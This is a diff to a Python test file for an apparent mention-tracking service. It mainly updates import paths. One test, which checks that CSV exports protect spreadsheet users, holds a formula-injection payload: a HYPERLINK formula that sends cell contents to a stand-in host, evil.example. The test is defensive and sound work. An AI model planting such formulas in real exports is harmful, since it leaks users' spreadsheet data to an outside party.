@@ -8,15 +8,15 @@ from datetime import datetime, timedelta, timezone
 from pathlib import Path
 
 from collectors.base import Mention, PollResult
-from desk.models import Label, Mention as MentionRow
-from desk.pipeline import store_poll
+from desk.store.models import Label, Mention as MentionRow
+from desk.intake.pipeline import store_poll
 
 ROOT = Path(__file__).resolve().parent.parent
 T0 = datetime(2026, 11, 20, 9, 0, tzinfo=timezone.utc)
 
 
 def test_export_labels_writes_the_newest_label_per_mention_for_train(tmp_path, cfg):
-    from desk.db import connect
+    from desk.store.db import connect
 
     store = connect(cfg.database_url())
     posts = [Mention(platform="demo", source="demo", external_id=f"p{i}", url="", author="a", title=t, body=b,
@@ -44,7 +44,7 @@ def test_export_labels_writes_the_newest_label_per_mention_for_train(tmp_path, c
 def test_a_text_a_spreadsheet_would_run_is_protected_in_the_csv_and_read_back_whole(tmp_path, cfg):
     """The lead opens the export in a spreadsheet; the trainer reads the same file back. Both must hold."""
     from classifier.data import load_extra_labels
-    from desk.db import connect
+    from desk.store.db import connect
 
     store = connect(cfg.database_url())
     texts = ['=HYPERLINK("https://evil.example/?x="&A2,"refund")', "-1 stars, Northwind", "@Northwind help"]
